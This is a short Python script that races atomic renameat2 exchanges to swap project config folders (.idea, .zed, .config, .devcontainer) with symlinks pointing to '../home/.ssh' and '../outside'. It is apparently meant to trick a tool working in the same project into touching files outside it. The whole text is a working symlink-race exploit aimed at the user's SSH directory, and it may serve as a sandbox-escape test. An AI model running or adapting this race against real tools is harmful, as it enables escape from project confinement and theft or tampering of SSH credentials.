"""Puts folders and links to the outside in each other's place, while other calls begin in the same project."""
import ctypes, os, random, time

libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2
names = {".idea": "../home/.ssh", ".zed": "../home/.ssh", ".config": "../outside", ".devcontainer": "../outside"}
end = time.time() + 6
made = 0
while time.time() < end:
    for name, target in names.items():
        link = name + "-link"
        try:
            if os.path.islink(name) == os.path.islink(link):  # one of each, whatever was moved aside
                for path in name, link:
                    if os.path.lexists(path):
                        made += 1
                        os.rename(path, ".old-%d" % made)
            os.path.lexists(name) or os.mkdir(name)
            os.path.lexists(link) or os.symlink(target, link)
        except OSError:
            pass
        libc.renameat2(-100, name.encode(), -100, link.encode(), EXCHANGE)
    time.sleep(random.random() / 500)
print("DONE")
